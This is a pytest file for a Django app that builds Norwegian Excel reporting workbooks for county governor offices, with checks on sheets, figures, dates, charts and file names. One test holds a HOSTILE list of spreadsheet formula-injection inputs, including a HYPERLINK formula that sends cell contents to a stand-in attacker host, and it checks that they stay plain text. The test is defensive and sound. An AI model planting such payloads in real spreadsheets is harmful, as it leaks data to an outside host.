"""The package workbook: Norwegian sheets an office can send as they are, the figures of report_figures, dates
as dates, charts on the figure cells, and no formula ever."""

import datetime

import pytest
from django.utils import timezone
from openpyxl.xml import LXML

from reporting.figures.registry import FIGURES
from reporting.packages.workbook import package_filename, package_workbook_bytes, text_chunks
from reporting.reports.snapshot import package_data_live
from tests.factories import record
from tests.workbook_checks import assert_finished, chart_references, no_codes

from .conftest import (
    facts_for_office_a,
    report_figures,
    rows,
    summary_about,
    summary_country,
    summary_figures,
    table,
    workbook,
)

pytestmark = pytest.mark.django_db

GENERATED = timezone.make_aware(datetime.datetime(2021, 4, 30, 12, 0))
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]
OFFICE_SHEETS = [
    "Sammendrag",
    "Kommuner",
    "Mangler",
    "Prioriteringer",
    "Tekster",
    "Tilskudd",
    "Tilskuddsordninger",
    "Gjennomføringsplan",
    "Forklaring",
]


def build(period, office, **kwargs) -> bytes:
    data = package_data_live(period=period, office=office, generated_at=GENERATED, generated_by="Test", **kwargs)
    return package_workbook_bytes(data)


def test_the_office_package_has_the_sheets_and_norwegian_headings(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    wb = workbook(build(spring, office_a))
    assert wb.sheetnames == OFFICE_SHEETS
    summary = summary_about(wb["Sammendrag"])
    assert summary["Periode"] == "Våren 2021"
    assert summary["Embete"] == "Statsforvalteren i Oslo og Viken"
    assert summary["Referansedato"] == datetime.datetime(2021, 4, 30)
    assert summary["Frist"] == datetime.datetime(2021, 5, 1)
    assert summary["Laget"] == datetime.datetime(2021, 4, 30, 12, 0)  # Europe/Oslo, a time cell
    assert summary["Laget av"] == "Test"
    assert summary["Status"] == "Ikke påbegynt"
    assert summary["Grunnlag"] == "Levende tall"
    kommuner = table(wb["Kommuner"])
    assert list(kommuner[0])[:3] == ["Kommunenummer", "Kommune", "Dialogmøte i 2021"]
    assert len(kommuner) == 52  # one row per municipality of the office
    oslo = next(r for r in kommuner if r["Kommunenummer"] == "0301")
    assert oslo["Politisk vedtak"] == "Plan vedtatt (saksnummer 21/100)"
    assert oslo["Vedtaksdato (plan vedtatt)"] == datetime.datetime(2021, 2, 1)
    assert oslo["Fase"] == "Fase 3 – gjennomføring"
    assert oslo["Prioriterte innsatsområder og løsninger"] == "Et aldersvennlig Norge"
    halden = next(r for r in kommuner if r["Kommunenummer"] == "3001")
    assert halden["Politisk vedtak"] == "Prosess beskrevet (saksnummer 21/101)"
    assert halden["Vedtaksdato (plan vedtatt)"] is None  # a described process has no decision date
    # the decision one day after the reference date is not there: never recorded, not «no»
    assert next(r for r in kommuner if r["Kommunenummer"] == "3004")["Politisk vedtak"] == "Ikke registrert"
    priorities = rows(wb["Prioriteringer"])
    assert priorities[0][:4] == ("Kode", "Innsatsområde eller løsning", "Type", "Antall kommuner i fase 3")
    assert len(table(wb["Tilskudd"])) == 52
    assert list(table(wb["Tilskudd"])[0])[:2] == ["Kommunenummer", "Kommune"]


def test_the_figures_are_those_of_report_figures(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    wb = workbook(build(spring, office_a))
    printed = report_figures("--period", "spring-2021", "--office", office_a.slug)
    expected = printed["offices"][office_a.slug]
    summary = summary_figures(wb["Sammendrag"])
    # every figure report_figures prints, the period's own first
    assert list(summary) == ["municipalities", *spring.figures, *[k for k in FIGURES if k not in spring.figures]]
    assert summary["phase3_priorities"] == (None, None)  # a breakdown: see Prioriteringer
    assert summary["municipalities"][0] == expected["municipalities"] == 52
    for key in FIGURES:
        count, share = summary[key]
        assert count == expected[key]["count"], key
        # openpyxl writes floats with 16 significant digits: equal to the last but one digit
        assert share == pytest.approx(expected[key]["share"], rel=1e-15), key
    assert summary["decided_or_in_process"][0] == 4
    # the country's figures beside the office's, as report_figures prints them for the same arguments
    country = summary_country(wb["Sammendrag"])
    for key in FIGURES:
        assert country[key][0] == printed["national"][key]["count"], key
        assert country[key][1] == pytest.approx(printed["national"][key]["share"], rel=1e-15), key
    marked = {r["Kode"]: r["Bedt om i perioden"] for r in table(wb["Sammendrag"])}
    assert [k for k, v in marked.items() if v == "Ja"] == spring.figures
    priorities = {r[0]: r[3] for r in rows(wb["Prioriteringer"])[1:]}
    assert priorities["phase_3"] == expected["phase_3"]["count"] == 2
    for code, count in expected["phase3_priorities"].items():
        assert priorities[code] == count
    assert priorities["aldersvennlig"] == 2


def test_autumn_2020_has_no_plan_sheet_and_no_grant_list(office_a):
    from reporting.models import ReportingPeriod

    wb = workbook(build(ReportingPeriod.objects.get(slug="autumn-2020"), office_a))
    assert "Gjennomføringsplan" not in wb.sheetnames
    assert "Ingen tilskuddsliste for 2020" in rows(wb["Tilskudd"])[1][1]
    assert table(wb["Tekster"])[0]["Tekst"] == "Perioden ber ikke om tekster."


def _cells_by_text(wb) -> dict:
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    found[c.value] = c
    return found


def test_formula_looking_text_stays_text(spring, office_a, staff_a, monkeypatch):
    from reporting.reports import snapshot as reports

    facts_for_office_a(staff_a, numbers=("0301",))
    record("3001", "decision", "plan_adopted", "2021-02-01", user=staff_a, detail="=1+1")
    for chunk in (HOSTILE[:5], HOSTILE[5:]):
        texts = dict(zip(spring.sections, chunk, strict=False))
        monkeypatch.setattr(reports, "report_texts_for_package", lambda office, period, texts=texts: texts)
        wb = workbook(build(spring, office_a))
        formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        found = _cells_by_text(wb)
        # The NUL is dropped; a carriage return comes back as written when openpyxl writes through lxml (which
        # escapes it), as a line feed when it writes raw XML: still quoted text either way
        cr = "\r" if LXML else "\n"
        for text in [t.replace("\r", cr).replace("\x00", "").strip() for t in chunk]:
            assert text in found, repr(text)
            assert found[text].data_type == "s"
            if text.startswith(("=", "+", "-", "@")):
                assert found[text].quotePrefix is True
        case = found["Plan vedtatt (saksnummer =1+1)"]
        assert case.data_type == "s"


def test_the_same_data_gives_the_same_bytes(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    assert build(spring, office_a) == build(spring, office_a)


def test_known_at_freezes_what_was_recorded_by_then(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    known = timezone.now()
    before = build(spring, office_a, known_at=known)
    record("3005", "decision", "plan_adopted", "2021-02-01", user=staff_a)
    assert build(spring, office_a, known_at=known) == before
    assert build(spring, office_a) != before


def test_kjent_per_is_the_newest_recording_time(spring, office_a, staff_a):
    facts_for_office_a(staff_a, numbers=("0301",))
    newest = record("3001", "phase", "2", "2021-02-01", user=staff_a)
    about = summary_about(workbook(build(spring, office_a))["Sammendrag"])
    assert about["Kjent per"] == timezone.localtime(newest.recorded_at).replace(tzinfo=None, microsecond=0)


def test_the_office_package_looks_finished_and_holds_no_codes(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    content = build(spring, office_a)
    wb = assert_finished(content, footer=("Statsforvalteren i Oslo og Viken", "Våren 2021, per 30.04.2021"))
    for ws in wb:
        assert no_codes(ws) == [], ws.title
    assert wb.properties.title == "Rapportpakke for Leve hele livet – Statsforvalteren i Oslo og Viken – Våren 2021"
    # the chart's series are the office's and the country's shares of the period's figures, in Sammendrag
    header = next(i for i, r in enumerate(rows(wb["Sammendrag"]), start=1) if r[0] == "Kode")
    charted = [key for key in spring.figures if key in FIGURES]
    first, last = header + 2, header + 1 + len(charted)
    assert chart_references(content, "Sammendrag") == [
        f"'Sammendrag'!$D${header}",
        f"'Sammendrag'!$B${first}:$B${last}",
        f"'Sammendrag'!$D${first}:$D${last}",
        f"'Sammendrag'!$F${header}",
        f"'Sammendrag'!$B${first}:$B${last}",
        f"'Sammendrag'!$F${first}:$F${last}",
    ]
    assert [r[0] for r in rows(wb["Sammendrag"])[first - 1 : last]] == charted
    # the missing list is the gap definition's
    missing = table(wb["Mangler"])
    kinds = {r["Mangler"] for r in missing if r["Kommunenummer"] == "3004"}
    assert kinds == {"Fase ikke vurdert", "Uten politisk vedtak", "Ingen registrering om kommuneplanens samfunnsdel",
                     "Ikke i nettverk"}  # fmt: skip


def test_the_grant_sheet_names_the_year_its_schemes_and_what_each_criterion_checks(spring, office_a):
    wb = workbook(build(spring, office_a))
    grants = rows(wb["Tilskudd"])
    assert grants[0][0] == "Prioritering i tilskuddsordninger 2021, per 30.04.2021"
    assert grants[1][1].startswith("Gjelder 10 ordninger i 2021: kap. 761 post 63, 67, 68, 69 og 79; kap. 762 post")
    header = table(wb["Tilskudd"])[0]
    assert "3. Forankret eller planlagt forankret i samfunnsdelen" in header
    assert "1. Vedtatt plan eller beskrevet prosess fram mot vedtak" in header
    schemes = table(wb["Tilskuddsordninger"])
    assert len(schemes) == 10
    assert {
        "År": 2021,
        "Kapittel": 761,
        "Post": 68,
        "Navn": "Kommunalt kompetanse- og innovasjonstilskudd",
    }.items() <= (next(s for s in schemes if s["Navn"] == "Kommunalt kompetanse- og innovasjonstilskudd").items())


def test_the_explanation_names_the_periods_figures_the_sources_and_every_column(spring, office_a):
    wb = workbook(build(spring, office_a))
    explained = table(wb["Forklaring"])
    topics = {(r["Ark"], r["Kolonne eller tema"]): r["Forklaring"] for r in explained}
    assert "Leve hele livet-portalen" in topics[("Hele pakken", "Kilder")]
    assert "30.04.2021" in topics[("Hele pakken", "Periode og referansedato")]
    for key in spring.figures:
        from reporting.periods.models import figure_label

        assert figure_label(key) in topics[("Hele pakken", "Tallene perioden ber om")]
    assert ("Hele pakken", "Levende tall") in topics
    assert ("Hele pakken", "Innsendt") in topics
    for header in list(table(wb["Kommuner"])[0]):
        assert ("Kommuner", header) in topics, header
    assert "«Ikke registrert»" in topics[("Kommuner", "Politisk vedtak")]


def test_file_names_are_norwegian_and_ascii(spring, office_a):
    data = package_data_live(period=spring, office=office_a, generated_at=GENERATED, generated_by="Test")
    assert package_filename(data) == "rapportpakke-varen-2021-statsforvalteren-i-oslo-og-viken.xlsx"
    national = package_data_live(period=spring, office=None, generated_at=GENERATED, generated_by="Test")
    assert package_filename(national) == "rapportpakke-varen-2021-hele-landet.xlsx"


def test_long_texts_are_cut_between_paragraphs_into_rows_that_fit():
    text = "\n".join(f"Avsnitt {i}. " + "ord " * 60 for i in range(20))
    pieces = text_chunks(text, 1000)
    assert all(len(p) <= 1000 for p in pieces)
    assert "\n".join(pieces) == text.strip()
    assert text_chunks("kort") == ["kort"]
    assert text_chunks("x " * 2000, 1000)[0].endswith("x")


def test_a_snapshot_stored_before_the_labels_still_renders_in_norwegian(spring, office_a, staff_a):
    """A FORMAT 1 snapshot (municipality rows in export_status's codes, no country figures) still builds."""
    from types import SimpleNamespace

    from reporting.packages.data import package_data_submitted
    from reporting.reports.snapshot import FORMAT_1_COLUMNS

    facts_for_office_a(staff_a)
    current = package_data_live(period=spring, office=office_a, generated_at=GENERATED, generated_by="Test").to_json()
    old = {k: v for k, v in current.items() if k not in ("national", "deadline", "grant_schemes")}
    old["format"] = 1
    part = {k: v for k, v in current["parts"][0].items() if k not in ("region", "report")}
    codes = {
        "0301": [
            "0301",
            "Oslo",
            "oslo-og-viken",
            "held",
            "plan_adopted",
            "yes",
            "",
            "anchored",
            "none",
            "none",
            "3",
            2,
            "aldersvennlig;mat",
            "2021-02-01",
            "21/100",
        ]
    }
    part["municipalities"] = [codes["0301"]]
    old["parts"] = [part]
    assert len(codes["0301"]) == len(FORMAT_1_COLUMNS)
    snapshot = SimpleNamespace(data=old, version=1, submitted_at=GENERATED, submitted_by="Kari", report_id=0)
    wb = workbook(package_workbook_bytes(package_data_submitted(snapshot)))
    oslo = table(wb["Kommuner"])[0]
    assert oslo["Politisk vedtak"] == "Plan vedtatt (saksnummer 21/100)"
    assert oslo["Vedtaksdato (plan vedtatt)"] == datetime.datetime(2021, 2, 1)
    assert oslo["Forankret i handlingsplan/økonomiplan"] == "Ikke forankret"
    assert oslo["Nettverk"] == "2 nettverk (deltar eller planlegger å delta)"
    assert oslo["Prioriterte innsatsområder og løsninger"] == "Et aldersvennlig Norge\nMat og måltider"
    assert "ble laget før manglene" in table(wb["Mangler"])[-1]["Slik rettes det"]
    assert summary_country(wb["Sammendrag"])["municipalities"][0] == 356
    for ws in wb:
        assert no_codes(ws) == [], ws.title


def test_chosen_examples_print_their_dates_the_norwegian_way(spring, office_a, staff_a):
    from municipalities.models import GoodExample
    from reporting.reports.services import report_texts_save
    from tests.factories import municipality

    chosen = GoodExample.objects.create(
        municipality=municipality("0301"),
        title="Måltidsvert",
        text="t",
        date=datetime.date(2021, 5, 3),
        recorded_by=staff_a,
    )
    report_texts_save(
        office=office_a, period=spring, texts={"examples": "Se eksemplene."}, user=staff_a, round=None,
        example_ids=[chosen.pk],
    )  # fmt: skip
    texts = " ".join(r["Tekst"] or "" for r in table(workbook(build(spring, office_a))["Tekster"]))
    assert "Måltidsvert (Oslo, 3.5.2021)" in texts
    assert "2021-05-03" not in texts
